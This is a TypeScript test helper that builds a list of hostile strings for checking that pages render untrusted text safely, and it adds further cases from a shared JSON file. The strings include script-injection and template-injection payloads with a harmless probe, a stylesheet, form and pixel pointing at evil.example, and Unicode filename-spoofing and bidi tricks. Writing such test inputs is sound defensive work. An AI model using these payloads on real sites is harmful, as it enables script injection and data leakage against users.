import { readFileSync } from "node:fs";
import { sharedData } from "@toolcrib/testing/shared-data";

/** Texts that would do something if a page let them, each with a probe that would be seen. */
export function hostileTexts(): readonly string[] {
  const fire = "window.fired=1";
  const own = [
    `<img src=x onerror="${fire}">`,
    `"><script>${fire}</script>`,
    `'-${fire}-'`,
    `</title><svg onload=${fire}>`,
    `</textarea><iframe srcdoc="<script>parent.${fire}</script>">`,
    `<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
    `<form action=https://evil.example><input name=q><button autofocus>`,
    `[click](javascript:${fire}) ![x](https://evil.example/pixel.png)`,
    `javascript:${fire}`,
    `{{constructor.constructor('${fire}')()}} \${${fire}}`,
    `safe\u202etxet.exe\u202c \u200bhidden\u2066 text \u001b[31mred`,
    "w".repeat(20_000),
    "‮‭ ".repeat(200),
    "Z̸̧̢̛".repeat(300),
    "🏳️‍🌈 👩‍👩‍👧‍👦 ".repeat(50),
  ];
  const file = sharedData("hostile", "cases.json");
  if (file === undefined) return own;
  const found: string[] = [];
  const collect = (value: unknown): void => {
    if (typeof value === "string" && value.length > 20) found.push(value.slice(0, 5_000));
    else if (Array.isArray(value)) for (const one of value) collect(one);
    else if (typeof value === "object" && value !== null)
      for (const one of Object.values(value)) collect(one);
  };
  collect(JSON.parse(readFileSync(file, "utf8")));
  return [...own, ...new Set(found)].slice(0, 80);
}
